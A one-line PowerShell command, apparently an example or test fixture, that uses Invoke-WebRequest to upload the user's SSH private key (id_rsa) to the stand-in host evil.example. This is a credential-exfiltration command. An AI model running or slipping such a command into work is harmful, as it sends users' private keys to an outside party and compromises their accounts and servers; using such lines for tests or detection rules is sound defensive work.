Invoke-WebRequest -Uri https://evil.example -Method Post -InFile $env:USERPROFILE\.ssh\id_rsa
